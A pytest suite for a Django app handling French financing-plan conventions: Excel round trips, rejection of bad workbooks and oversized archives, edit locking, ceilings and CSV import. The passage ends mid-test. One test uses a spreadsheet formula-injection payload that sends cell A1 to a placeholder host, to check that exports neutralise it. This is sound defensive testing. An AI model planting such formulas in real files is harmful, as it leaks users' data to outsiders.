"""The financing plan in the database and the pages: Excel round trip, bad workbooks, the lifecycle
hook, the editor, ceilings, simulation and CALPAE import."""

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from conventions import lifecycle, services
from conventions.volets import Volet
from funding import excel, excel_import
from funding.models import Ceiling, NationalEnvelope, PlanLine
from territories.models import Collectivity
from tests.factories import ActionSheetFactory, step

pytestmark = pytest.mark.django_db
D = Decimal


@pytest.fixture
def convention():
    ain = Collectivity.objects.get(code="01D")
    c = services.convention_create(collectivity=ain, year=2024)
    c = services.convention_update(
        convention=c,
        lock_version=c.lock_version,
        values={
            "amount_volet1": D("150000.00"),
            "amount_volet2": D("400000.00"),
            "prefect_name": "Préfète fictive",
            "president_name": "Président fictif",
            "regional_prefect_name": "Préfet de région fictif",
        },
    )
    Ceiling.objects.create(collectivity=ain, year=2024, volet=1, amount=D("150000.00"), source="formule")
    Ceiling.objects.create(collectivity=ain, year=2024, volet=2, amount=D("500000.00"), source="calpae_2022")
    ActionSheetFactory(convention=c)
    return c


def add(convention, volet, section, nature, state, collectivity, purpose="Ligne"):
    return PlanLine.objects.create(
        convention=convention, volet=volet, section=section, nature=nature, purpose=purpose,
        state_amount=D(state), collectivity_amount=D(collectivity),
    )  # fmt: skip


@pytest.fixture
def good_plan(convention):
    add(convention, 1, "equipes_cd", "chefferie_projet", "150000.00", "0", "Chef de projet")
    add(convention, 2, "remobilisation", "prestation_accompagnement", "250000.00", "260000.00", "Ateliers")
    add(convention, 2, "levee_freins", "aide_individuelle", "150000.00", "140000.00", "Garde d'enfant")
    return convention


def test_r_fin_03_plan_breaking_cofinancing_blocks_finalisation(convention, make_user):
    agent = make_user(Role.DDETS, "01")
    add(convention, 1, "equipes_cd", "chefferie_projet", "150000.00", "0")
    line = add(convention, 2, "remobilisation", "prestation_accompagnement", "400000.00", "100000.00")
    step(convention, "open_negotiation", agent, date(2024, 1, 5))
    with pytest.raises(lifecycle.TransitionRefused, match="Volet 2 : le département finance 20,00\u00a0%"):
        step(convention, "finalise", agent, date(2024, 1, 25))
    line.collectivity_amount = D("400000.00")
    line.save()
    assert step(convention, "finalise", agent, date(2024, 1, 25)).state == "finalisee"


def test_excel_round_trip_gives_the_same_plan(client, good_plan, make_user):
    client.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))
    before = list(
        PlanLine.objects.order_by("volet", "pk").values(
            "volet", "section", "nature", "purpose", "state_amount", "collectivity_amount"
        )
    )
    data = client.get(reverse("funding:export_xlsx", args=[good_plan.pk])).content
    workbook = load_workbook(io.BytesIO(data), data_only=True)
    assert workbook.sheetnames == ["Volet 1", "Volet 2", "Volet 3", "Natures", "_modele"]
    assert workbook["Volet 2"]["M23"].value == 400000  # the cached value of the volet's total formula
    formulas = load_workbook(io.BytesIO(data))["Volet 2"]
    assert (formulas["A23"].value, formulas["M23"].value) == (
        "TOTAL BESOINS DEPARTEMENTAUX AU TITRE DU VOLET 2 :",
        "=M8+M12+M18+M22",
    )
    assert (formulas["A18"].value, formulas["M18"].value) == ("Total", "=SUM(M13:M17)")
    response = client.post(
        reverse("funding:import_xlsx", args=[good_plan.pk]),
        {"file": SimpleUploadedFile("plan.xlsx", data)},
        follow=True,
    )
    assert "Plan importé : 3 lignes." in response.content.decode()
    after = list(
        PlanLine.objects.order_by("volet", "pk").values(
            "volet", "section", "nature", "purpose", "state_amount", "collectivity_amount"
        )
    )
    assert after == before


def workbook_with(convention, change) -> bytes:
    data = excel.export_plan(convention, list(PlanLine.objects.filter(convention=convention)), {})
    workbook = load_workbook(io.BytesIO(data))
    change(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def import_errors(convention, data, filename="plan.xlsx") -> list[str]:
    with pytest.raises(excel_import.PlanImportError) as error:
        excel_import.import_plan(data, filename=filename, convention=convention, action_numbers=set())
    return [str(e) for e in error.value.errors]


def test_amounts_typed_as_text_with_any_space_are_read(good_plan):
    def text_amounts(wb):
        wb["Volet 2"]["M11"] = "250\u202f000,00 €"
        wb["Volet 2"]["N11"] = "260 000,00"
        wb["Volet 2"]["N17"] = "140\u00a0000,00 €"

    data = workbook_with(good_plan, text_amounts)
    plan = excel_import.import_plan(data, filename="plan.xlsx", convention=good_plan, action_numbers=set())
    volet2 = [line for line in plan.lines if line["volet"] == 2]
    assert [line["state_amount"] for line in volet2] == [D("250000.00"), D("150000.00")]
    assert [line["collectivity_amount"] for line in volet2] == [D("260000.00"), D("140000.00")]


def test_sheet_totals_are_never_trusted(good_plan):
    data = workbook_with(good_plan, lambda wb: wb["Volet 2"].__setitem__("M23", 999))
    plan = excel_import.import_plan(data, filename="plan.xlsx", convention=good_plan, action_numbers=set())
    assert plan.warnings == [
        "Volet 2!M23 : le total du fichier (999,00\u00a0€) ne correspond pas à ses lignes "
        "(400\u00a0000,00\u00a0€) ; les totaux sont recalculés par la plateforme."
    ]


def test_lines_for_information_are_read_and_left_out_of_the_volet_s_total_without_a_warning(good_plan):
    add(good_plan, 3, "equipes_cd", "chefferie_projet", "30000.00", "0", "Chef de projet")
    add(good_plan, 3, "france_travail", "chefferie_projet", "50000.00", "0", "Conseillers France Travail")
    data = excel.export_plan(good_plan, list(PlanLine.objects.filter(convention=good_plan)), {})
    sheet = load_workbook(io.BytesIO(data), data_only=True)["Volet 3"]
    total = next(row for row in sheet.iter_rows() if row[0].value == excel.grand_total_label(excel.PLAN, 3))
    assert total[12].value == 30000  # column M, the State's part: France Travail's line is « pour info »
    plan = excel_import.import_plan(data, filename="plan.xlsx", convention=good_plan, action_numbers=set())
    assert [(line["section"], line["state_amount"]) for line in plan.lines if line["volet"] == 3] == [
        ("equipes_cd", D("30000.00")),
        ("france_travail", D("50000.00")),
    ]
    assert plan.warnings == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda wb: wb["Volet 2"].__setitem__("M11", 12.345),
            "Volet 2!M11, valeur « 12.345 » : Part État (€) : un montant a au plus deux décimales (centimes)",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("M11", "beaucoup"),
            "Volet 2!M11, valeur « beaucoup » : Part État (€) : montant invalide",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("M11", -3),
            "Volet 2!M11, valeur « -3 » : Part État (€) : un montant ne peut pas être négatif",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("K11", "cadeaux"),
            "Volet 2!K11, valeur « cadeaux » : Nature de la dépense (liste de la feuille « Natures ») : "
            "nature inconnue",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("B11", "Mobilité"),
            "Volet 2!B11, valeur « Mobilité » : Objet de la dépense : objet inconnu pour cette rubrique "
            "(Solutions de remobilisation)",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("M11", "=1/3"),
            "Volet 2!M11, valeur « =1/3 » : formule sans valeur calculée",
        ),
        (lambda wb: wb["Volet 2"].merge_cells("E11:F12"), "Volet 2!E11:F12 : cellules fusionnées dans les lignes"),
        (lambda wb: wb["Volet 2"].merge_cells("E5:F5"), "Volet 2!E5:F5 : cellules fusionnées dans les lignes"),
        (lambda wb: wb["Volet 1"].__setitem__("M4", "Part Etat"), "Volet 1!A4 : en-têtes modifiés : modèle modifié"),
        (
            # The renamed total shifts the walk: the next heading is what is found missing.
            lambda wb: wb["Volet 2"].__setitem__("A18", "Sous-total"),
            "Volet 2!A : ligne « Référencement de l'offre de solutions locales d'accompagnement » introuvable",
        ),
        (
            lambda wb: wb["Volet 2"].__setitem__("C24", "Après le total"),
            "Volet 2!C24, valeur « Après le total » : ligne après le total du volet",
        ),
        (
            lambda wb: (wb["Volet 2"].insert_rows(20), wb["Volet 2"].__setitem__("C20", "Entre deux titres")),
            "Volet 2!A20 : ligne hors d'une rubrique",
        ),
        (
            lambda wb: wb["_modele"].__setitem__("A2", "1"),
            "plan.xlsx : ancienne version du modèle : téléchargez le modèle actuel",
        ),
        (
            lambda wb: wb["_modele"].__setitem__("A3", "38D"),
            "plan.xlsx : ce fichier est le plan de 38D 2024, pas de cette convention",
        ),
    ],
)
def test_bad_workbooks_name_sheet_cell_and_value(good_plan, change, expected):
    errors = import_errors(good_plan, workbook_with(good_plan, change))
    assert any(error.startswith(expected) for error in errors), errors


def test_a_row_inserted_in_a_section_belongs_to_it(good_plan):
    def insert(wb):
        sheet = wb["Volet 2"]
        sheet.insert_rows(12)  # above the remobilisation total
        for cell, value in (
            ("B12", "Solutions de remobilisation"),
            ("C12", "Chantier d'insertion"),
            ("K12", "Prestation d'accompagnement"),
            ("M12", 1000),
            ("N12", "1 000,00"),
        ):
            sheet[cell] = value  # fmt: skip

    plan = excel_import.import_plan(
        workbook_with(good_plan, insert), filename="plan.xlsx", convention=good_plan, action_numbers=set()
    )
    added = next(line for line in plan.lines if line["purpose"] == "Chantier d'insertion")
    assert (added["volet"], added["section"], added["subsection"], added["nature"], added["state_amount"]) == (
        2, "remobilisation", "solutions_remobilisation", "prestation_accompagnement", D("1000.00"),
    )  # fmt: skip
    assert len(plan.lines) == 4


def with_rows_inserted(count: int):
    """A change of the plan's workbook inserting `count` lines in volet 2, above the remobilisation total (as in
    test_a_row_inserted_in_a_section_belongs_to_it)."""

    def change(wb):
        sheet = wb["Volet 2"]
        sheet.insert_rows(12, amount=count)
        for row in range(12, 12 + count):
            sheet[f"C{row}"], sheet[f"K{row}"], sheet[f"M{row}"] = f"Atelier {row}", "Prestation d'accompagnement", 1

    return change


def test_a_sheet_holds_its_template_s_rows_and_500_more(good_plan):
    # volet 2's template has 17 rows: 9 headings, captions and totals, and 8 rows for its objets, of which
    # good_plan's two lines (under no objet) take none: its sheet has 19 rows, 498 more make 517
    plan = excel_import.import_plan(
        workbook_with(good_plan, with_rows_inserted(498)),
        filename="plan.xlsx",
        convention=good_plan,
        action_numbers=set(),
    )
    assert len([line for line in plan.lines if line["volet"] == 2]) == 2 + 498
    assert import_errors(good_plan, workbook_with(good_plan, with_rows_inserted(499))) == [
        "Volet 2 : feuille trop longue : les lignes du modèle et 500 de plus au plus"
    ]


def test_a_plan_of_500_lines_in_a_volet_comes_back_from_its_workbook(good_plan):
    PlanLine.objects.bulk_create(
        PlanLine(
            convention=good_plan,
            volet=2,
            section="remobilisation",
            nature="prestation_accompagnement",
            purpose=f"Atelier {n}",
            state_amount=D("1.00"),
            collectivity_amount=D("1.00"),
        )
        for n in range(498)
    )
    data = excel.export_plan(good_plan, list(PlanLine.objects.filter(convention=good_plan)), {})
    plan = excel_import.import_plan(data, filename="plan.xlsx", convention=good_plan, action_numbers=set())
    assert len([line for line in plan.lines if line["volet"] == 2]) == 500


def zipped(size: int) -> bytes:
    """An archive whose one file weighs `size` bytes once decompressed (a few kilobytes compressed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/donnees.bin", b"\0" * size)
    return buffer.getvalue()


def test_unknown_template_and_foreign_formats(good_plan):
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    assert import_errors(good_plan, buffer.getvalue()) == [
        "plan.xlsx : modèle inconnu : téléchargez le modèle de la plateforme"
    ]
    assert import_errors(good_plan, b"\xd0\xcf\x11\xe0" + b"0" * 100, "plan.xls") == [
        "plan.xls : format .xls non accepté : enregistrez le fichier au format .xlsx"
    ]
    assert import_errors(good_plan, buffer.getvalue(), "plan.xlsm")[0].startswith("plan.xlsm : classeur avec macros")
    assert import_errors(good_plan, b"PK\x03\x04 tronque") == ["plan.xlsx : fichier endommagé"]
    assert import_errors(good_plan, b"x" * (excel_import.MAX_BYTES + 1)) == [
        "plan.xlsx : fichier trop volumineux (2 Mio au plus)"
    ]
    # 40 Mio once decompressed is read (and found not to be a workbook); one byte more is refused unread
    assert import_errors(good_plan, zipped(20 * excel_import.MAX_BYTES + 1)) == [
        "plan.xlsx : classeur trop volumineux une fois décompressé"
    ]
    assert import_errors(good_plan, zipped(20 * excel_import.MAX_BYTES))[0].startswith("plan.xlsx : classeur illisible")
    # 2 Mio exactly is not too large: it is read, and found damaged
    assert import_errors(good_plan, b"PK" + b"x" * (excel_import.MAX_BYTES - 2)) == ["plan.xlsx : fichier endommagé"]


def test_refused_import_changes_nothing(client, good_plan, make_user):
    client.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))
    data = workbook_with(good_plan, lambda wb: wb["Volet 2"].__setitem__("N17", "trop"))
    page = client.post(
        reverse("funding:import_xlsx", args=[good_plan.pk]),
        {"file": SimpleUploadedFile("plan.xlsx", data)},
        follow=True,
    ).content.decode()
    assert "Plan refusé, rien n&#x27;a été modifié : Volet 2!N17, valeur « trop »" in page
    assert PlanLine.objects.count() == 3
    oversized = client.post(
        reverse("funding:import_xlsx", args=[good_plan.pk]),
        {"file": SimpleUploadedFile("gros.xlsx", b"PK" + b"x" * excel_import.MAX_BYTES)},
        follow=True,
    ).content.decode()
    assert "Plan refusé, rien n&#x27;a été modifié : gros.xlsx : fichier trop volumineux (2 Mio au plus)" in oversized
    assert PlanLine.objects.count() == 3
    at_the_limit = client.post(
        reverse("funding:import_xlsx", args=[good_plan.pk]),
        {"file": SimpleUploadedFile("limite.xlsx", b"PK" + b"x" * (excel_import.MAX_BYTES - 2))},
        follow=True,
    ).content.decode()
    assert "Plan refusé, rien n&#x27;a été modifié : limite.xlsx : fichier endommagé" in at_the_limit
    assert PlanLine.objects.count() == 3


def test_a_line_names_its_fiche_action_by_an_existing_number(client, good_plan, make_user):
    client.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))

    def imported(number) -> str:
        data = workbook_with(good_plan, lambda wb: wb["Volet 2"].__setitem__("L11", number))  # the line « Ateliers »
        url = reverse("funding:import_xlsx", args=[good_plan.pk])
        return client.post(url, {"file": SimpleUploadedFile("plan.xlsx", data)}, follow=True).content.decode()

    # the convention has one fiche action, number 1
    for number, error in (
        (7, "Volet 2!L11, valeur « 7 » : N° fiche action : aucune fiche action porte ce numéro"),
        ("un", "Volet 2!L11, valeur « un » : N° fiche action : numéro de fiche action invalide"),
    ):
        assert f"Plan refusé, rien n&#x27;a été modifié : {error}" in imported(number)
        assert not PlanLine.objects.filter(action_sheet__isnull=False).exists()
    assert "Plan importé : 3 lignes." in imported(1)
    assert PlanLine.objects.get(purpose="Ateliers").action_sheet == good_plan.action_sheets.get()


def test_editor_saves_at_every_change_and_returns_rules(client, good_plan, make_user):
    client.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))
    line = PlanLine.objects.get(purpose="Ateliers")
    prefix = f"l{line.pk}"
    data = {
        f"{prefix}-section": "remobilisation", f"{prefix}-subsection": "", f"{prefix}-nature": "iae",
        f"{prefix}-purpose": "Ateliers", f"{prefix}-existing_amount": "", f"{prefix}-delta_amount": "",
        f"{prefix}-other_funding_amount": "",
        f"{prefix}-state_amount": "250 000,00", f"{prefix}-collectivity_amount": "260 000,00",
        f"{prefix}-lock_version": str(line.lock_version),  # the version the page shows
    }  # fmt: skip
    response = client.post(reverse("funding:line_update", args=[good_plan.pk, line.pk]), data, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert body.startswith('<div id="plan-body">') or '<div id="plan-body">' in body[:200]
    assert "Dépense non finançable par l&#x27;État : le volet 2 ne finance pas l&#x27;IAE. (lignes 2)" in body
    line.refresh_from_db()
    assert line.nature == "iae"
    assert line.history.latest().history_user.username == "conseil_departemental-01D"


def test_a_change_made_from_a_stale_page_is_refused_and_the_other_agents_change_kept(good_plan, make_user):
    """The DDETS and the département have the plan open at once; the département saves a line first. Before, the
    DDETS's save, from its page as loaded, silently overwrote it."""
    from django.test import Client

    line = PlanLine.objects.get(purpose="Ateliers")
    prefix = f"l{line.pk}"
    as_loaded = {
        f"{prefix}-section": "remobilisation", f"{prefix}-subsection": "",
        f"{prefix}-nature": "prestation_accompagnement", f"{prefix}-purpose": "Ateliers",
        f"{prefix}-existing_amount": "", f"{prefix}-delta_amount": "",
        f"{prefix}-other_funding_amount": "", f"{prefix}-collectivity_amount": "260 000,00",
        f"{prefix}-lock_version": str(line.lock_version),
    }  # fmt: skip
    council, ddets = Client(), Client()
    council.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))
    ddets.force_login(make_user(Role.DDETS, "01"))
    url = reverse("funding:line_update", args=[good_plan.pk, line.pk])
    council.post(url, {**as_loaded, f"{prefix}-state_amount": "240 000,00"}, HTTP_HX_REQUEST="true")
    body = ddets.post(url, {**as_loaded, f"{prefix}-state_amount": "300 000,00"}, HTTP_HX_REQUEST="true")
    assert "La ligne « Ateliers » a été modifiée par quelqu&#x27;un d&#x27;autre entre-temps : rien n&#x27;a été " in (
        body.content.decode()
    )
    line.refresh_from_db()
    assert (line.state_amount, line.lock_version) == (D("240000.00"), 1)
    assert line.history.latest().history_user.username == "conseil_departemental-01D"
    # nor deleted from the stale page; from the page reloaded (the line's version 1), it is
    delete = reverse("funding:line_delete", args=[good_plan.pk, line.pk])
    ddets.post(delete, {"lock_version": "0"}, HTTP_HX_REQUEST="true")
    assert PlanLine.objects.filter(pk=line.pk).exists()
    ddets.post(delete, {"lock_version": "1"}, HTTP_HX_REQUEST="true")
    assert not PlanLine.objects.filter(pk=line.pk).exists()
    # the département's page still shows it: its next change says the line is gone
    body = council.post(url, {**as_loaded, f"{prefix}-lock_version": "1"}, HTTP_HX_REQUEST="true")
    assert "Cette ligne n&#x27;est plus dans le plan (supprimée ou remplacée par un import entre-temps)" in (
        body.content.decode()
    )


def test_plan_frozen_after_finalisation(client, good_plan, make_user):
    agent = make_user(Role.DDETS, "01")
    step(good_plan, "open_negotiation", agent, date(2024, 1, 5))
    step(good_plan, "finalise", agent, date(2024, 1, 25))
    client.force_login(agent)
    assert client.post(reverse("funding:line_add", args=[good_plan.pk, 2])).status_code == 404
    assert PlanLine.objects.count() == 3


def test_simulation_and_notification_of_volet1_ceilings(client, make_user):
    client.force_login(make_user(Role.DGEFP))
    data = {
        "year": 2024,
        "envelope": "20 000 000,00",
        "base": "100 000,00",
        "per_tranche": "2 000,00",
        "tranche_size": 1000,
    }
    page = client.post(reverse("funding:simulation"), {**data, "simuler": "1"}).content.decode()
    assert "Total : " in page and "pour une enveloppe de 20\u00a0000\u00a0000,00\u00a0€" in page
    link = re.search(r'href="(\?[^"]*format=csv)"', page)[1].replace("&amp;", "&")
    lines = client.get(reverse("funding:simulation") + link).content.decode("utf-8-sig").splitlines()
    assert lines[0] == "code;collectivité;région;foyers allocataires du RSA;plafond du volet 1 (€)"
    assert len(lines) == 1 + 100
    assert next(line for line in lines if line.startswith("01D;")).endswith(";116000,00")
    client.post(reverse("funding:simulation"), {**data, "notifier": "1"})
    assert Ceiling.objects.filter(year=2024, volet=1).count() == 100
    assert Ceiling.objects.get(collectivity__code="01D", volet=1).amount == D("116000.00")  # 100 000 + 8 × 2 000
    total = sum(c.amount for c in Ceiling.objects.filter(year=2024, volet=1))
    assert total <= D("20000000.00")
    envelope = NationalEnvelope.objects.get(year=2024)
    assert (envelope.volet1, envelope.volet1_base, envelope.volet1_per_tranche, envelope.volet1_tranche_size) == (
        D("20000000.00"), D("100000.00"), D("2000.00"), 1000,
    )  # fmt: skip


def test_a_second_prenotification_of_volet1_replaces_the_first_and_a_same_one_writes_nothing(client, make_user):
    """Notified again with another formula, every volet 1 ceiling takes the new amount and date, a ceiling entered
    by hand included; notified again the same day with the same formula, no ceiling is written again (the
    history keeps one line per change)."""
    client.force_login(make_user(Role.DGEFP))
    data = {"year": 2024, "envelope": "20 000 000,00", "base": "100 000,00", "per_tranche": "2 000,00"}
    data["tranche_size"] = 1000
    client.post(reverse("funding:simulation"), {**data, "notifier": "1"})
    ain = Ceiling.objects.get(collectivity__code="01D", volet=1, year=2024)
    assert (ain.amount, ain.source, ain.history.count()) == (D("116000.00"), Ceiling.Source.FORMULA, 1)
    isere = Ceiling.objects.get(collectivity__code="38D", volet=1, year=2024)
    isere.amount, isere.source, isere.prenotified_on = D("1.00"), Ceiling.Source.MANUAL, date(2023, 12, 1)
    isere.save()
    client.post(reverse("funding:simulation"), {**data, "base": "90 000,00", "notifier": "1"})
    ain.refresh_from_db()
    assert (ain.amount, ain.prenotified_on, ain.history.count()) == (D("106000.00"), date.today(), 2)
    isere.refresh_from_db()
    assert (isere.source, isere.prenotified_on) == (Ceiling.Source.FORMULA, date.today())
    assert isere.amount > D("90000.00")
    client.post(reverse("funding:simulation"), {**data, "base": "90 000,00", "notifier": "1"})
    # created, the hand-entered one, the second notification: the third wrote nothing
    assert ain.history.count() == 2 and Ceiling.history.filter(year=2024, volet=1).count() == 100 + 1 + 100


def test_volet1_may_take_what_the_other_volets_leave_of_the_envelope_to_the_cent(client, make_user):
    """R-FIN-12: volet 1 pre-notified up to what the other volets leave of the national envelope (the reserve then
    0 €); one cent more and nothing is saved."""
    from funding import services as funding_services
    from funding.ceilings import Volet1Formula, allocate_volet1

    funding_services.envelope_save(
        year=2024,
        total=D("30000000.00"),
        parts={
            Volet.PROJECT_LEAD: D("0"),
            Volet.LOCAL_SOLUTIONS: D("6000000.00"),
            Volet.TERRITORIAL_DEPLOYMENT: D("0"),
        },
        reserve=D("24000000.00"),
    )
    formula = Volet1Formula(D("100000.00"), D("2000.00"), 1000)
    households = {c.code: c.rsa_households for c in Collectivity.objects.all()}

    def notify(envelope: str):
        allocation = allocate_volet1(households, formula, D(envelope))
        return funding_services.notify_volet1(
            year=2024, volet1_envelope=D(envelope), formula=formula, allocation=allocation, notified_on=date(2024, 1, 3)
        )

    with pytest.raises(funding_services.CeilingImportError) as refusal:
        notify("24000000.01")
    assert "la répartition dépasse l'enveloppe de 0,01" in refusal.value.errors[0].replace("\u00a0", " ")
    assert not Ceiling.objects.exists() and NationalEnvelope.objects.get(year=2024).volet1 == 0
    assert notify("24000000.00") == 100
    assert NationalEnvelope.objects.get(year=2024).reserve == D("0.00")


def test_calpae_import_all_or_nothing(client, make_user):
    client.force_login(make_user(Role.DGEFP))
    bad = SimpleUploadedFile("calpae.csv", b"code;montant\n01D;1 000 000,00\n99X;12\n38D;-4\n")
    page = client.post(reverse("funding:calpae_import"), {"file": bad, "annee": 2024}, follow=True).content.decode()
    assert "calpae.csv, ligne 3, colonne « code », valeur « 99X » : collectivité inconnue" in page
    assert "calpae.csv, ligne 4, colonne « montant », valeur « -4 » : un montant ne peut pas être négatif" in page
    assert not Ceiling.objects.exists()
    good = SimpleUploadedFile("calpae.csv", b"code;montant\n01D;1 000 000,00\n38D;2 500 000,50\n")
    client.post(reverse("funding:calpae_import"), {"file": good, "annee": 2024})
    assert Ceiling.objects.get(collectivity__code="38D", volet=2).amount == D("2500000.50")
    for content in (b"\n", b"collectivite;plafond\n01D;1,00\n"):  # no header, or not the expected columns
        upload = SimpleUploadedFile("calpae.csv", content)
        page = client.post(reverse("funding:calpae_import"), {"file": upload, "annee": 2024}, follow=True)
        assert "calpae.csv, ligne 1 : en-tête attendu « code;montant »" in page.content.decode()
    page = client.post(
        reverse("funding:calpae_import"), {"file": SimpleUploadedFile("vide.csv", b""), "annee": 2024}, follow=True
    )
    assert "Import refusé, rien n&#x27;a été modifié : vide.csv : Le fichier soumis est vide." in page.content.decode()
    wrong_year = SimpleUploadedFile("calpae.csv", b"code;montant\n01D;1,00\n")
    assert client.post(reverse("funding:calpae_import"), {"file": wrong_year, "annee": "24"}).status_code == 400
    assert Ceiling.objects.get(collectivity__code="01D", volet=2).amount == D("1000000.00")


def test_a_second_calpae_import_replaces_the_changed_ceilings_and_writes_nothing_for_the_others(client, make_user):
    """A ceiling entered by hand is replaced by the file's amount (source CALPAE); an amount the file repeats is not
    written again (the history keeps one line per change)."""
    client.force_login(make_user(Role.DGEFP))
    first = SimpleUploadedFile("calpae.csv", b"code;montant\n01D;1 000 000,00\n38D;2 500 000,00\n")
    client.post(reverse("funding:calpae_import"), {"file": first, "annee": 2024})
    ain = Ceiling.objects.get(collectivity__code="01D", volet=2, year=2024)
    ain.amount, ain.source = D("900000.00"), Ceiling.Source.MANUAL
    ain.save()
    second = SimpleUploadedFile("calpae.csv", b"code;montant\n01D;1 000 000,00\n38D;2 500 000,00\n")
    page = client.post(reverse("funding:calpae_import"), {"file": second, "annee": 2024}, follow=True)
    assert "2 plafonds du volet 2 importés" in page.content.decode()
    ain.refresh_from_db()
    assert (ain.amount, ain.source, ain.history.count()) == (D("1000000.00"), Ceiling.Source.CALPAE, 3)
    assert Ceiling.objects.get(collectivity__code="38D", volet=2).history.count() == 1


def test_ceilings_page_regional_for_dreets_and_refused_to_others(client, convention, make_user):
    client.force_login(make_user(Role.DREETS, "84"))
    page = client.get(reverse("funding:ceilings"), {"annee": 2024}).content.decode()
    assert "Ain" in page and "Nord" not in page
    exported = client.get(reverse("funding:ceilings"), {"annee": 2024, "format": "csv"}).content.decode("utf-8-sig")
    assert "01D;Ain;Auvergne-Rhône-Alpes;150000,00;500000,00;;" in exported.splitlines()
    assert "59D" not in exported
    client.force_login(make_user(Role.DDETS, "01"))
    assert client.get(reverse("funding:ceilings")).status_code == 404
    assert client.get(reverse("funding:simulation")).status_code == 404


def test_xlsx_is_a_zip_with_cached_totals(good_plan):
    data = excel.export_plan(good_plan, list(PlanLine.objects.filter(convention=good_plan)), {})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>SUM(M13:M17)</f><v>150000.00</v>" in sheet
    assert "<f>M8+M12+M18+M22</f><v>400000.00</v>" in sheet


def test_generated_convention_includes_the_financing_plan(good_plan):
    from pypdf import PdfReader

    from conventions.models import ConventionDocument

    services.generate_documents(convention=good_plan, by=None)
    pdf = ConventionDocument.objects.get(kind="pdf")
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(bytes(pdf.content))).pages).split())
    text = text.replace("\u00a0", " ")
    annexe = text[text.index("ANNEXE 2 - Plan de financement", text.index("ANNEXES")) :]
    assert "Construction du plan de financement - VOLET 2 - Période du 01/01/24 au 31/12/24" in annexe
    assert "TOTAL BESOINS DEPARTEMENTAUX AU TITRE DU VOLET 2 : 800 000,00 €" in annexe
    assert "Dont financement de l'État : 400 000,00 € ; dont Conseil départemental : 400 000,00 €." in annexe


def test_r_conv_04_volet3_ceiling_only_for_selected_territories(client, make_user):
    from conventions.models import Volet3Selection

    client.force_login(make_user(Role.DGEFP))
    ain = Collectivity.objects.get(code="01D")
    data = {"collectivity": ain.pk, "year": 2024, "volet": 3, "amount": "500 000,00", "prenotified_on": ""}
    page = client.post(reverse("funding:ceiling_set"), data, follow=True).content.decode()
    assert "Ain n&#x27;est pas retenue pour le volet 3 en 2024 (R-CONV-04)." in page
    assert not Ceiling.objects.exists()
    Volet3Selection.objects.create(collectivity=ain, year=2024)
    client.post(reverse("funding:ceiling_set"), data)
    assert Ceiling.objects.get(volet=3).amount == D("500000.00")


def test_text_typed_in_the_plan_never_becomes_a_formula_in_the_workbook(good_plan):
    line = PlanLine.objects.get(purpose="Ateliers")
    line.purpose = '=HYPERLINK("http://exemple.invalid/?"&A1,"Voir")'
    line.save()
    data = excel.export_plan(good_plan, list(PlanLine.objects.filter(convention=good_plan)), {})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "HYPERLINK" in sheet and "<f>HYPERLINK" not in sheet
    assert load_workbook(io.BytesIO(data))["Volet 2"]["C11"].data_type == "s"


def test_the_plan_page_says_what_the_finalisation_still_waits_for(client, convention, make_user):
    """A plan below the convention's amounts breaks no blocking rule of the plan, yet the finalisation would refuse
    it: the page lists the same reasons as the finalisation, then says when nothing is left."""
    client.force_login(make_user(Role.DEPARTMENTAL_COUNCIL, "01D"))
    add(convention, 1, "equipes_cd", "chefferie_projet", "100000.00", "0", "Chef de projet")
    url = reverse("funding:plan", args=[convention.pk])
    page = client.get(url).content.decode()
    assert "Aucune règle bloquante enfreinte." in page
    assert "La finalisation attend encore 2 points :" in page
    assert (
        "Plan de financement : la part de l&#x27;État du volet 1 (100\u00a0000,00\u00a0€) doit "
        "être égale au montant de la convention (150\u00a0000,00\u00a0€) (R-FIN-01)." in page
    )
    add(convention, 1, "equipes_cd", "chefferie_projet", "50000.00", "0", "Adjoint")
    add(convention, 2, "remobilisation", "prestation_accompagnement", "400000.00", "400000.00", "Ateliers")
    page = client.get(url).content.decode()
    assert 'data-testid="finalisation-refusals"' not in page
    assert (  # R-FIN-11, each volet's figure apart from its number
        "(R-FIN-11) : volet 1 : 0,00\u00a0€ ; volet 2 : 400\u00a0000,00\u00a0€ ; volet 3 : 0,00\u00a0€." in page
    )
    assert "Le plan et la convention sont prêts pour la finalisation." in page
    agent = make_user(Role.DDETS, "01")
    step(convention, "open_negotiation", agent, date(2024, 1, 5))
    assert step(convention, "finalise", agent, date(2024, 1, 25)).state == "finalisee"
    page = client.get(url).content.decode()
    assert "prêts pour la finalisation" not in page and "La finalisation attend" not in page


def test_the_plan_page_shows_amounts_beyond_a_ceiling_as_a_broken_rule_never_as_within(client, convention, make_user):
    """R-FIN-03 on the plan page: a volet exactly at its ceiling is within it; a cent beyond, the page names the
    excess and no longer says the amounts are within the ceilings."""
    client.force_login(make_user(Role.DDETS, "01"))
    url = reverse("funding:plan", args=[convention.pk])
    within = "Montants de la convention dans les plafonds notifiés."
    assert within in client.get(url).content.decode()  # volet 1: 150 000 € for a ceiling of 150 000 €
    services.convention_update(
        convention=convention, lock_version=convention.lock_version, values={"amount_volet1": D("150000.01")}
    )
    page = client.get(url).content.decode()
    assert within not in page
    assert (
